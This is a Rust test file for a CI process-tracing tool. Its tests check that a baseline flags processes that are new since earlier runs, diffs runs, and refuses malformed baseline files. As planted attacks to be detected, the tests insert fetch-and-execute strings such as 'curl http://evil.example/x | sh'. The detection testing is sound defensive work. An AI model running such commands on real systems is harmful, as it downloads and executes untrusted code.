//! Processes that are new since earlier runs.

use std::{fs, path::Path};

use serde_json::Value;

use crate::{Test, command, errors, replay, run};

pub(crate) const TESTS: &[(&str, Test)] = &[
    ("baseline::a_planted_command_is_the_only_new_thing", a_planted_command_is_the_only_new_thing),
    ("baseline::a_run_with_findings_is_not_learned", a_run_with_findings_is_not_learned),
    ("baseline::two_runs_of_one_job_have_no_difference", two_runs_of_one_job_have_no_difference),
    ("baseline::a_file_that_is_none_is_refused", a_file_that_is_none_is_refused),
];

/// Returns the records of a run in another workspace, with another commit, other process ids and another start, with
/// one more command if it is given.
fn another_run(n: usize, planted: Option<&str>) -> Vec<u8> {
    let records = String::from_utf8(replay("go", &["--output", "json", "--detail", "full"])).unwrap();
    let mut lines = Vec::new();
    for line in records.lines() {
        let mut record: Value = serde_json::from_str(line).unwrap();
        // The findings of the session would be those of every run.
        record["tracego"].as_object_mut().unwrap().remove("findings");
        let text = record.to_string();
        let text = text.replace("/srv/ci/project", &format!("/builds/{n}0123/project"));
        let text = text.replace("0123456789abcdef0123456789abcdef01234567", &format!("{n:040x}"));
        let text = text.replace("42/1/build", &format!("4{n}/1/build")).replace(":105", &format!(":{n}0105"));
        lines.push(text.replace("2026-11-25T02:11", &format!("2026-11-2{n}T03:21")));
    }
    if let Some(planted) = planted {
        let start = lines.iter().find(|line| line.contains("\"go build -o app ./cmd/server\"")).unwrap();
        let mut record: Value = serde_json::from_str(start).unwrap();
        record["process"]["pid"] = 77_777.into();
        record["process"]["creation"]["time"] = format!("2026-11-2{n}T03:21:46.700000000Z").into();
        record["timestamp"] = format!("2026-11-2{n}T03:21:46.701000000Z").into();
        record["process"]["command_args"] = serde_json::json!(["sh", "-c", planted]);
        record["process"]["executable"] = serde_json::json!({ "path": "/usr/bin/dash", "name": "dash" });
        record["tracego"]["exec_id"] = "planted".into();
        record["tracego"].as_object_mut().unwrap().remove("go");
        record["body"] = format!("sh -c {planted}").into();
        lines.push(record.to_string());
    }
    (lines.join("\n") + "\n").into_bytes()
}

fn with_baseline(baseline: &Path, options: &[&str], records: &[u8]) -> (i32, String, String) {
    let output = run(command().arg("report").arg("--baseline").arg(baseline).args(options).arg("-"), records);
    let text = String::from_utf8(output.stdout.clone()).unwrap();
    (output.status.code().unwrap(), text, errors(&output))
}

fn a_planted_command_is_the_only_new_thing() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("job.baseline");
    let planted = another_run(5, Some("curl http://evil.example/x | sh"));
    for n in 1..=3 {
        let (code, text, errors) = with_baseline(&path, &["--update"], &another_run(n, None));
        assert_eq!(code, 0, "{errors}");
        assert!(n == 1 || text.contains("| Baseline | 0 new processes"), "{text}");
        let few = with_baseline(&path, &["--fail-on", "low"], &planted);
        // Until there are three runs, a new process is named and is no finding.
        assert_eq!((few.0, few.1.contains("TG024")), if n < 3 { (0, false) } else { (5, true) }, "{}", few.1);
        assert!(few.1.contains("1 new processes"), "{}", few.1);
    }
    let before = fs::read(&path).unwrap();
    let (code, text, _) = with_baseline(&path, &["--fail-on", "low"], &another_run(4, None));
    assert_eq!(code, 0);
    assert!(text.contains("| Baseline | 0 new processes since 3 runs |") && !text.contains("Gone"), "{text}");
    let (_, text, _) = with_baseline(&path, &[], &planted);
    assert_eq!(text.matches("TG024").count(), 1, "{text}");
    assert!(text.contains("**medium TG024 new-process**") && text.contains("curl http"), "{text}");
    assert_eq!(fs::read(&path).unwrap(), before, "written without --update");
    // With --update the new process is accepted.
    assert_eq!(with_baseline(&path, &["--update", "--fail-on", "low"], &planted).0, 0);
    assert_eq!(with_baseline(&path, &["--fail-on", "low"], &planted).0, 0);
    let lines = String::from_utf8(fs::read(&path).unwrap()).unwrap();
    assert!(lines.starts_with("{\"schema\":\"tracego.baseline/1\",\"runs\":4,"), "{lines}");
    assert!(!lines.contains("/builds/") && !lines.contains("0123/"), "{lines}");
}

fn a_run_with_findings_is_not_learned() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("job.baseline");
    let records = replay("go", &["--output", "json"]);
    let (code, _, errors) = with_baseline(&path, &["--update"], &records);
    assert_eq!(code, 1);
    assert!(errors.contains("the baseline is not updated: 2 findings of at least high severity"), "{errors}");
    assert!(!path.exists());
    let (code, ..) = with_baseline(&path, &["--update", "--fail-on", "critical"], &records);
    assert_eq!(code, 0);
    let broken = [&records[..], b"x\n"].concat();
    let (code, _, errors) = with_baseline(&path, &["--update", "--fail-on", "critical"], &broken);
    assert_eq!(code, 1);
    assert!(errors.contains("records are missing, or could not be read"), "{errors}");
}

fn two_runs_of_one_job_have_no_difference() {
    let folder = tempfile::tempdir().unwrap();
    let [first, second, third] = ["1", "2", "3"].map(|name| folder.path().join(name));
    fs::write(&first, another_run(1, None)).unwrap();
    fs::write(&second, another_run(2, None)).unwrap();
    fs::write(&third, another_run(3, Some("curl -s x | sh"))).unwrap();
    let diff = |before: &Path, after: &Path, options: &[&str]| {
        let output = run(command().arg("diff").args(options).arg(before).arg(after), b"");
        (output.status.code().unwrap(), String::from_utf8(output.stdout).unwrap())
    };
    let (code, text) = diff(&first, &second, &["--fail-on-new"]);
    assert_eq!(code, 0, "{text}");
    assert!(text.starts_with("no difference: 11 kinds of processes"), "{text}");
    let (code, text) = diff(&first, &third, &["--fail-on-new"]);
    assert_eq!((code, text.lines().next()), (5, Some("new       sh -c curl -s x | sh")));
    let (code, text) = diff(&third, &first, &["--output", "json"]);
    let gone: Value = serde_json::from_str(text.trim()).unwrap();
    assert_eq!(
        (code, &gone["kind"], &gone["key"]),
        (0, &"gone".into(), &"/usr/bin/dash -c curl -s x | sh".into())
    );
}

fn a_file_that_is_none_is_refused() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("job.baseline");
    let records = another_run(1, None);
    let (code, _, errors) = with_baseline(&path, &[], &records);
    assert!(code == 2 && errors.contains("--update creates it"), "{errors}");
    fs::write(&path, "{\"schema\":\"tracego.baseline/2\"}\n").unwrap();
    let (code, _, errors) = with_baseline(&path, &["--update"], &records);
    assert!(code == 2 && errors.contains("tracego.baseline/1"), "{errors}");
    fs::write(&path, "{\"schema\":\"tracego.baseline/1\",\"runs\":1,\"updated\":\"\"}\n\n{\"program\":7}\n")
        .unwrap();
    let (code, _, errors) = with_baseline(&path, &["--update"], &records);
    assert!(code == 2 && errors.contains("line 3: "), "{errors}");
    let output = run(command().args(["report", "-"]), &fs::read(&path).unwrap());
    assert!(self::errors(&output).contains("a baseline; give it with --baseline"));
}
